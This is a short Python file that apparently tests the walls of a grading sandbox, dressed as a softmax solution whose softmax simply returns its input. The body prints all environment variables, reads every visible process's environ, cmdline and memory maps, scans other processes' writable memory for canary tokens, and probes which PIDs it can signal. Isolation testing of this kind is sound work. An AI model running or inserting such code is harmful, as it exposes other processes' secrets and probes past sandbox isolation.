# Tries: environments, command lines and memory of every process that can be seen.
# says: 02-logits-softmax/softmax/logits-returned
# walls
import os
import re

print(dict(os.environ))
for process in (p for p in os.listdir("/proc") if p.isdigit()):
    if int(process) != os.getpid():
        print("GO" + "T: a process", process)
    for name in ("environ", "cmdline", "maps"):
        try:
            print(open(f"/proc/{process}/{name}", "rb").read()[:3000])
        except OSError:
            pass
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if " rw" in line and end - start < 2**28:
                    memory.seek(start)
                    print(set(re.findall(rb"canary-[a-z]+-[0-9a-f]{24}", memory.read(end - start))))
    except OSError:
        pass
for other in (0, 1, os.getppid(), *range(2, 400)):
    if other in (os.getpid(), 0):
        continue
    try:
        os.kill(other, 0)
        print("GO" + "T: a signal through to", other)
    except OSError:
        pass


def softmax(z):
    return z
